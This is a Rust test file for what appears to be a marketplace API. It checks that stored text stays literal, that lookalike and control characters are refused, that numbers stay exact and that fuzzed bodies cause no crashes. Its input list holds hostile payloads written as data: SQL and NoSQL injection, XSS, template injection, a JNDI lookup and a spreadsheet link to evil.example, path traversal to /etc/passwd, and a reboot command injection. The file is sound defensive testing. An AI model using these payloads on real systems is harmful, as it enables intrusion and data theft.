//! Text of every kind: kept as it came, never run, and made into slugs that are addresses.

use proptest::prelude::{Just, Strategy, any, prop};
use proptest::strategy::ValueTree as _;
use proptest::test_runner::{Config, TestRunner};
use serde_json::{Value, json};
use souk_core::check;
use souk_tests::client::{market, product, unique};

use crate::{path_of, text};

/// Lines that mean something somewhere, and nothing here.
const LINES: &[&str] = &[
    "'; DROP TABLE documents; --",
    "\" OR \"\"=\"",
    "1 UNION SELECT body FROM documents",
    "Robert'); DELETE FROM documents WHERE ('1'='1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "../../../etc/passwd",
    "%00%0d%0a%2e%2e%2f",
    "$(reboot) `reboot` | reboot && reboot",
    "=HYPERLINK(\"http://evil.example\")",
    "{\"$gt\":\"\"}",
    "null",
    "undefined",
    "true",
    "0",
    "1e999",
    "\\u0000\\x00\\",
    "title\"}],\"next_cursor\":\"x",
    "products/published/tag/x",
    "a/b#c?d=e&f=g",
    "Ünïcödé Straße İstanbul",
    "💡👩‍👩‍👧‍👦🏳️‍🌈",
    "مصباح زيت نحاسي",
    "黄铜油灯",
    "מנורה",
    "Лампа",
    "ｆｕｌｌｗｉｄｔｈ",
    "Z̸̢̛͓a̶l̷g̶o̴",
    "e\u{301} and é",
    "a\u{a0}b\u{3000}c",
    "\u{10ffff}\u{fffd}\u{fffe}",
    "ﷺ",
    "-",
    "--",
    "..",
    "_",
    "'",
];

/// Lines that look like others, or change how the text around them looks.
const UNSEEN: &[&str] = &[
    "\u{202e}desrever\u{202c}",
    "\u{200b}zero\u{feff}width",
    "a\u{2028}b",
    "soft\u{ad}hyphen",
    "\u{3164}",
    "\u{200d}",
];

#[tokio::test]
async fn names_that_look_like_others_are_refused() {
    let Some(market) = market() else { return };
    let seller = market.member().await;
    let category = market.category(json!([])).await;
    for line in UNSEEN {
        let mut new = product(&category, json!({}));
        new["title"] = json!(line);
        new["tags"] = json!([line]);
        seller.post("/v1/products", new).await.names(422, &["tags[0]", "title"]);
        seller
            .post("/v1/vendors", json!({ "name": line }))
            .await
            .names(422, &["name"]);
        seller
            .patch("/v1/me", json!({ "name": line }))
            .await
            .names(422, &["name"]);
    }
    for name in ["admin-1", "adm1n", "the-support", "5ouk"] {
        seller
            .patch("/v1/me", json!({ "username": name }))
            .await
            .names(422, &["username"]);
    }
    for url in [
        "https://a.example/'",
        "https://a.example/\"x",
        "https://me@a.example/a",
        "https://a.example:99999/",
    ] {
        let mut new = product(&category, json!({}));
        new["cover"] = json!(url);
        new["gallery"] = json!([url]);
        seller
            .post("/v1/products", new)
            .await
            .names(422, &["cover", "gallery[0]"]);
    }
}

#[tokio::test]
async fn text_is_kept_as_it_came_and_is_nothing_but_text() {
    let Some(market) = market() else { return };
    let seller = market.member().await;
    let category = market
        .category(json!([{ "name": "note", "type": "text", "filterable": true }]))
        .await;
    for line in LINES {
        let own = unique("t");
        let mut tag: String = format!("{own} {line}").chars().take(40).collect();
        // Some letters are several in lower case.
        while tag.to_lowercase().chars().count() > 40 {
            tag.pop();
        }
        let sent = json!({ "title": line, "description": format!("{line}\n{line}"), "tags": [tag], "attributes": { "note": line } });
        let created = seller.published(&category, sent).await;
        let kept = market.anonymous().get(&path_of(&created)).await.expect(200);
        assert!(kept.header("content-type").starts_with("application/json"));
        assert_eq!(kept["title"], check::normal_line(line), "{line}");
        assert_eq!(kept["description"], format!("{line}\n{line}"));
        assert_eq!(kept["attributes"]["note"], check::normal_line(line));
        assert_eq!(kept["tags"], json!([check::normal_line(&tag).to_lowercase()]));
        let slug = kept.text("slug");
        assert!(check::slug(&slug.to_owned(), &()).is_ok(), "{line:?} became {slug:?}");
        assert_eq!(
            market
                .anonymous()
                .get(&format!("/v1/products/{slug}"))
                .await
                .expect(200)["id"],
            created["id"]
        );
        let query: String = form(&[("category", &category), ("tag", &tag), ("attr.note", line)]);
        assert_eq!(
            market.anonymous().all(&format!("/v1/products?{query}")).await,
            [kept.json],
            "{line}"
        );
    }
    assert_eq!(
        market
            .anonymous()
            .all(&format!("/v1/products?category={category}"))
            .await
            .len(),
        LINES.len()
    );
}

fn form(pairs: &[(&str, &str)]) -> String {
    form_urlencoded::Serializer::new(String::new())
        .extend_pairs(pairs)
        .finish()
}

#[tokio::test]
async fn control_characters_are_refused_where_they_mean_nothing() {
    let Some(market) = market() else { return };
    let seller = market.member().await;
    let category = market.category(json!([{ "name": "note", "type": "text" }])).await;
    for control in [
        '\u{0}', '\u{1}', '\u{7}', '\u{8}', '\u{b}', '\u{1b}', '\u{7f}', '\u{85}', '\u{9f}',
    ] {
        let text = format!("a{control}b");
        let body = product(
            &category,
            json!({ "title": text, "description": text, "tags": [text], "location": { "latitude": 0, "longitude": 0, "label": text } }),
        );
        seller
            .post("/v1/products", body)
            .await
            .names(422, &["title", "description", "tags[0]", "location.label"]);
        seller
            .post("/v1/vendors", json!({ "name": text, "description": text }))
            .await
            .names(422, &["name", "description"]);
        seller
            .patch("/v1/me", json!({ "name": text, "bio": text }))
            .await
            .names(422, &["name", "bio"]);
        let lists = market
            .anonymous()
            .get(&format!("/v1/products?{}", form(&[("tag", &text)])))
            .await;
        assert!(matches!(lists.status, 200 | 400), "{}", lists.status);
    }
    // In a password every character counts.
    let password = "p\u{0}\u{1f4a1}\u{301}ssword";
    let username = unique("p");
    let email = format!("{username}@example.com");
    let new = json!({ "email": email, "username": username, "password": password });
    market.anonymous().post("/v1/accounts", new).await.expect(201);
    market.sign_in(&username, password).await;
    let shorter = json!({ "username": username, "password": "p" });
    market.anonymous().post("/v1/sessions", shorter).await.expect(401);
}

#[tokio::test]
async fn numbers_stay_exact_or_are_refused() {
    let Some(market) = market() else { return };
    let seller = market.member().await;
    let category = market
        .category(json!([{ "name": "n", "type": "number", "filterable": true }]))
        .await;
    let send = |price: &str, n: &str| {
        let body = format!(
            r#"{{"title":"{}","category":"{category}","price":{{"amount":{price},"currency":"EUR"}},"attributes":{{"n":{n}}},"location":{{"latitude":-90,"longitude":180.0}}}}"#,
            unique("N")
        );
        seller
            .call(reqwest::Method::POST, "/v1/products")
            .body("application/json", body)
    };
    for n in [
        "0",
        "-1",
        "9007199254740991",
        "-9223372036854775808",
        "18446744073709551615",
        "0.1",
        "-1.5e-7",
        "1e308",
    ] {
        let created = send("0", n).await.expect(201);
        let expected: Value = serde_json::from_str(n).unwrap();
        let kept = seller.get(&path_of(&created.json)).await.expect(200);
        assert_eq!(kept["attributes"]["n"], expected, "{n}");
        let draft = format!("/v1/products?status=draft&category={category}&attr.n={n}");
        assert_eq!(seller.all(&draft).await.len(), 1, "{n}");
    }
    for amount in [
        "1.0",
        "1.5",
        "1e3",
        "-1",
        "9007199254740992",
        "9223372036854775808",
        "1e308",
        "123456789012345678901234567890",
        "\"1\"",
        "true",
        "[1]",
        "null",
    ] {
        send(amount, "0").await.names(422, &["price.amount"]);
    }
    for amount in ["1e999", "01", "+1", "0x10", ".5", "1_000", "Infinity"] {
        send(amount, "0").await.expect(400);
    }
}

#[tokio::test]
async fn long_titles_make_short_slugs() {
    let Some(market) = market() else { return };
    let seller = market.member().await;
    let category = market.category(json!([])).await;
    for title in [
        "word ".repeat(40),
        "x".repeat(200),
        "💡".repeat(200),
        "ß".repeat(200),
        "汉".repeat(200),
        format!("{}-{}", "a".repeat(100), "b".repeat(99)),
    ] {
        // Twice, so that the second one needs another slug.
        for _ in 0..2 {
            let created = seller.draft(&category, json!({ "title": title })).await;
            let slug = text(&created, "slug");
            assert!((1..=80).contains(&slug.len()), "{slug}");
            seller.get(&format!("/v1/products/{slug}")).await.expect(200);
        }
    }
}

/// JSON of any shape whose names are often those that mean something.
fn anything() -> impl Strategy<Value = Value> {
    let names = prop::sample::select(vec![
        "title",
        "description",
        "category",
        "price",
        "amount",
        "currency",
        "tags",
        "attributes",
        "location",
        "latitude",
        "longitude",
        "label",
        "sku",
        "vendor",
        "gallery",
        "cover",
        "condition",
        "url",
        "name",
        "slug",
        "icon",
        "color",
        "parent",
        "type",
        "choices",
        "required",
        "email",
        "username",
        "password",
        "refresh_token",
        "bio",
        "avatar",
        "",
    ]);
    let leaf = prop::sample::select(vec![
        "EUR",
        "new",
        "good",
        "choice",
        "https://a.example/",
        "#ffffff",
        "a-b",
        "\u{0}",
        "💡",
    ])
    .prop_map(Value::from);
    let leaf = proptest::prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        (0..100_i64).prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        any::<String>().prop_map(Value::from),
        leaf,
    ];
    let value = leaf.prop_recursive(4, 40, 8, move |inner| {
        proptest::prop_oneof![
            prop::collection::vec(inner.clone(), 0..6).prop_map(Value::from),
            prop::collection::vec((names.clone(), inner), 0..10).prop_map(|pairs| pairs
                .into_iter()
                .map(|(name, value)| (name.to_owned(), value))
                .collect()),
        ]
    });
    value.boxed()
}

#[tokio::test]
async fn no_body_whatsoever_breaks_anything() {
    let Some(market) = market() else { return };
    let (seller, admin, anyone) = (market.member().await, market.admin().await, market.anonymous());
    let category = market
        .category(json!([{ "name": "size", "type": "choice", "choices": ["S"] }]))
        .await;
    let draft = path_of(&seller.draft(&category, json!({})).await);
    let mut runner = TestRunner::new(Config::default());
    for _ in 0..60 {
        let body = anything().new_tree(&mut runner).unwrap().current();
        // Often enough it is all good but for one part.
        let nearly = product(&category, body.clone());
        for call in [
            seller.post("/v1/products", nearly.clone()),
            seller.patch(&draft, nearly),
            seller.patch(&draft, body.clone()),
            seller.post("/v1/vendors", body.clone()),
            seller.patch("/v1/me", json!({ "bio": body })),
            admin.post("/v1/categories", json!({ "name": unique("C"), "attributes": body })),
            anyone.post("/v1/accounts", body.clone()),
            anyone.post("/v1/sessions", body.clone()),
            anyone.post("/v1/sessions/refresh", body.clone()),
        ] {
            let reply = call.await;
            assert!(
                matches!(reply.status, 200 | 201 | 400 | 401 | 409 | 422),
                "{}: {body}\n{}",
                reply.status,
                reply.body
            );
        }
    }
    assert_eq!(seller.get(&draft).await.expect(200)["author"], seller.id());
}
